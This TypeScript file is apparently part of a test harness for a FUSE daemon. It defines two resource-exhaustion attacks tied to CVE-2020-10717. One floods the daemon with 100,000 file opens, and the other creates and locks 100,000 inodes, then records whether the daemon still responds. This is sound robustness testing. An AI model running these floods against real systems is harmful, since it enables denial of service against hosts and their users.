/**
 * Guests that hold all they can get (CVE-2020-10717).
 *
 * @module
 */

import { Opcode } from "../../../wire/fuse.ts";
import { type Attack, rounds, type Scene } from "../attack.ts";
import { SLOTS } from "../raw_guest.ts";
import { body, handleOf, lookup, nodeOf, open, ROOT } from "../requests.ts";

/** Descriptors of the daemon and its limit, as far as that can be seen: it may be a child of the process that was started. */
function remarkDescriptors({ pid, tally }: Scene): void {
  if (pid === null) return;
  const counts = withChildren(pid).map((one) => ({ one, count: openDescriptors(one) }));
  const { one, count } = counts.reduce((most, other) => other.count > most.count ? other : most);
  if (count > 0) tally.remarks.add(`${count} descriptors of ${descriptorLimit(one)}`);
}

function descriptorLimit(pid: number): string {
  const limits = ifThere(() => Deno.readTextFileSync(`/proc/${pid}/limits`)) ?? "";
  return limits.match(/^Max open files +(\d+)/m)?.[1] ?? "?";
}

function ifThere<T>(look: () => T): T | null {
  try {
    return look();
  } catch {
    return null;
  }
}

function withChildren(pid: number): number[] {
  try {
    const children = Deno.readTextFileSync(`/proc/${pid}/task/${pid}/children`).trim();
    const below = children === "" ? [] : children.split(" ").map(Number);
    return [pid, ...below.flatMap(withChildren)];
  } catch {
    return [pid];
  }
}

function openDescriptors(pid: number): number {
  return ifThere(() => [...Deno.readDirSync(`/proc/${pid}/fd`)].length) ?? 0;
}

/** Makes `count` requests by the ringful; each answer is looked at. */
function flood(
  { guest }: Scene,
  count: number,
  post: (i: number) => number,
  take: (slot: number) => void,
): void {
  for (let done = 0; done < count;) {
    const slots: number[] = [];
    for (; slots.length < SLOTS && done < count; done++) slots.push(post(done));
    guest.kick();
    guest.awaitAll();
    for (const slot of slots) take(slot);
  }
}

/** Opens each node, and returns those that could be. */
function openAll(scene: Scene, nodes: readonly bigint[]): [node: bigint, handle: bigint][] {
  const { guest, tally } = scene;
  const open: [node: bigint, handle: bigint][] = [];
  let next = 0;
  flood(
    scene,
    nodes.length,
    (i) => guest.post(Opcode.OPEN, nodes[i]!, body([2, 0])),
    (slot) => {
      const answer = guest.answer(slot);
      tally.count(answer.status);
      if (answer.status === 0) open.push([nodes[next]!, handleOf(answer)]);
      next++;
    },
  );
  return open;
}

/** At the limit: closes a handle for each that is opened, until there have been `count` more. Returns how many there were. */
function reopen({ guest, tally }: Scene, node: bigint, handles: bigint[], count: number): number {
  let opened = 0;
  // Those that are refused are tried again, but not for ever.
  for (let tries = 0; opened < count && tries < 2 * count && handles.length > 0;) {
    const closed = handles.splice(0, SLOTS / 2);
    const slots: number[] = [];
    for (const handle of closed) {
      guest.post(Opcode.RELEASE, node, body([handle, 0, 0, 0n]));
      slots.push(guest.post(Opcode.OPEN, node, body([0, 0])));
    }
    tries += slots.length;
    guest.kick();
    guest.awaitAll();
    for (const slot of slots) {
      const answer = guest.answer(slot);
      tally.count(answer.status);
      if (answer.status !== 0) continue;
      opened++;
      handles.push(handleOf(answer));
    }
  }
  return opened;
}

export const EXHAUSTION_ATTACKS: readonly Attack[] = [
  {
    name: "open-handles",
    tries:
      "100,000 open files at once, or as many as there can be, and 100,000 in all; then the guest goes on",
    run(scene) {
      const { guest, tally } = scene;
      const node = nodeOf(lookup(guest, ROOT, "file"));
      const handles: bigint[] = [];
      const count = rounds(scene, 100_000);
      flood(
        scene,
        count,
        () => guest.post(Opcode.OPEN, node, body([0, 0])),
        (slot) => {
          const answer = guest.answer(slot);
          tally.count(answer.status);
          if (answer.status === 0) handles.push(handleOf(answer));
        },
      );
      tally.remarks.add(`${handles.length} of ${count} were open at once`);
      remarkDescriptors(scene);
      const all = handles.length + reopen(scene, node, handles, count - handles.length);
      if (all > handles.length) tally.remarks.add(`${all} in all`);
      if (guest.call(Opcode.GETATTR, node, body([0, 0, 0n])).status !== 0) {
        tally.violations.add("a file that is known cannot be asked about any more");
      }
      for (const handle of handles.splice(0, 64)) {
        if (guest.call(Opcode.RELEASE, node, body([handle, 0, 0, 0n])).status !== 0) {
          tally.violations.add("RELEASE is refused");
        }
      }
      if (open(guest, node, 0).status !== 0) {
        tally.violations.add("nothing can be opened after RELEASE");
      }
    },
  },
  {
    name: "many-inodes",
    // More than there are descriptors for.
    ownOptions: ["--inode-file-handles", "prefer"],
    tries: "100,000 files looked up and never forgotten, all opened that can be, with locks",
    run(scene) {
      const { guest, tally } = scene;
      const nodes: bigint[] = [];
      flood(
        scene,
        rounds(scene, 100_000),
        (i) => guest.post(Opcode.MKNOD, ROOT, body([0o100644, 0, 0, 0], `many-${i}`)),
        (slot) => {
          const answer = guest.answer(slot);
          tally.count(answer.status);
          if (answer.status === 0) nodes.push(nodeOf(answer));
        },
      );
      // A lock is to cost something before there is nothing left.
      const open = openAll(scene, nodes.slice(0, nodes.length / 25));
      let locks = 0;
      flood(
        scene,
        open.length,
        (i) => guest.post(Opcode.SETLK, open[i]![0], body([open[i]![1], 1n, 0n, 9n, 1, 1, 0, 0])),
        (slot) => {
          const { status } = guest.answer(slot);
          tally.count(status);
          if (status === 0) locks++;
        },
      );
      const more = openAll(scene, nodes.slice(nodes.length / 25));
      tally.remarks.add(`${open.length + more.length} were open, ${locks} locked`);
      tally.remarks.add(`${nodes.length} were known at once`);
      remarkDescriptors(scene);
      if (guest.call(Opcode.GETATTR, ROOT, body([0, 0, 0n])).status !== 0) {
        tally.violations.add("the root cannot be asked about any more");
      }
    },
  },
];
